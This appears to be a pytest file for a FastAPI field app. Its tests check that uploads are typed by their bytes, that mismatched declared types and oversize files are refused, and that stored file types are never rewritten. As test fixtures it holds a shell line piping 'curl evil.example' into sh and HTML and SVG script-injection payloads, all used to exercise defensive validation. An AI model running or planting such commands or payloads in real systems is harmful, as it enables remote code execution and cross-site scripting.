"""Uploads: the type comes from the bytes, a declared type that disagrees is refused, each type has its own
size limit, and a stored file's type is never changed by a later upload (it is refused), on SQLite and
PostgreSQL. Every refusal stores nothing."""

from __future__ import annotations

import hashlib
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from fieldapp.domain import files
from fieldapp.server.models import Blob
from tests.server import serverdb as db
from tests.server.helpers import PNG, Device

PDF = b"%PDF-1.7\n% a day report\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def sha(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def put(client: TestClient, who: Device, content: bytes, media_type: str) -> Any:
    headers = {**who.headers, "Content-Type": media_type}
    return client.put(f"/blobs/{sha(content)}", content=content, headers=headers)


def stored(client: TestClient) -> dict[str, tuple[str, int, bytes]]:
    """Every stored file: its type, size and bytes."""
    with db.database(client).read() as session:
        return {b.sha256: (b.media_type, b.size, b.content) for b in session.scalars(sa.select(Blob))}


@pytest.mark.parametrize(
    ("what", "content", "declared"),
    [
        ("a PNG declared a PDF", PNG, "application/pdf"),
        ("a PDF declared a PNG", PDF, "image/png"),
        ("text declared a PNG", b"just some text", "image/png"),
        ("a script declared a PNG", SCRIPT, "image/png"),
        ("a script declared a PDF", SCRIPT, "application/pdf"),
        ("HTML declared a PDF", HTML, "application/pdf"),
        ("an SVG declared a PNG", SVG, "image/png"),
        ("a PNG header cut short", PNG[:5], "image/png"),
        ("a PDF after a blank", b" " + PDF, "application/pdf"),
    ],
)
def test_an_upload_whose_bytes_are_not_of_the_declared_type_is_refused_with_the_reason(
    client: TestClient, nurse: Device, what: str, content: bytes, declared: str
) -> None:
    before = stored(client)
    response = put(client, nurse, content, declared)
    assert response.status_code == 422, what
    body = response.json()
    assert body["error"] == "type_mismatch" and f"declared {declared}" in body["message"], body
    assert stored(client) == before


@pytest.mark.parametrize("declared", ["image/svg+xml", "text/html", "application/octet-stream", "image/jpeg"])
def test_other_declared_types_are_refused(client: TestClient, nurse: Device, declared: str) -> None:
    before = stored(client)
    response = put(client, nurse, PNG, declared)
    assert response.status_code == 422 and response.json()["error"] == "bad_media_type"
    assert stored(client) == before


def test_each_type_has_its_own_size_limit(client: TestClient, nurse: Device) -> None:
    png_limit = files.KINDS[files.PNG].max_bytes
    big_png = PNG + b"\x00" * (png_limit - len(PNG) + 1)
    before = stored(client)
    response = put(client, nurse, big_png, "image/png")
    assert response.status_code == 413 and "PNG image may have at most 1024 KiB" in response.json()["message"]
    assert stored(client) == before
    exactly = PNG + b"\x00" * (png_limit - len(PNG))
    assert put(client, nurse, exactly, "image/png").status_code == 201
    # A day report may be larger than any signature image.
    big_pdf = PDF + b"%" * (2 * 1024 * 1024)
    assert put(client, nurse, big_pdf, "application/pdf").status_code == 201


def test_the_same_bytes_again_under_another_type_are_refused_and_the_stored_type_stays(
    client: TestClient, nurse: Device, office: Device
) -> None:
    assert put(client, nurse, PNG, "image/png").status_code == 201
    before = stored(client)
    again = put(client, office, PNG, "application/pdf")
    assert again.status_code == 422 and again.json()["error"] == "type_mismatch"
    assert put(client, office, PNG, "image/png").status_code == 200, "the same upload again changes nothing"
    assert stored(client) == before


def test_a_file_stored_earlier_under_a_wrong_type_is_never_rewritten_by_a_correct_upload(
    client: TestClient, nurse: Device, office: Device
) -> None:
    """Before types were read from the bytes, a PNG could be stored as application/pdf: a later upload of
    the same bytes with the right type is refused (409) rather than rewriting the stored file; the file
    stays withheld until someone who knows why looks at it (it is on the Integrity page once asked for)."""
    assert put(client, nurse, PNG, "image/png").status_code == 201
    with db.database(client).write() as session:
        blob = session.get(Blob, sha(PNG))
        assert blob is not None
        blob.media_type = "application/pdf"
    before = stored(client)
    response = put(client, office, PNG, "image/png")
    assert response.status_code == 409
    assert (
        response.json()["error"] == "stored_as_other_type" and "never changes" in response.json()["message"]
    )
    assert stored(client) == before
    assert client.get(f"/blobs/{sha(PNG)}", headers=office.headers).status_code == 409, "withheld"
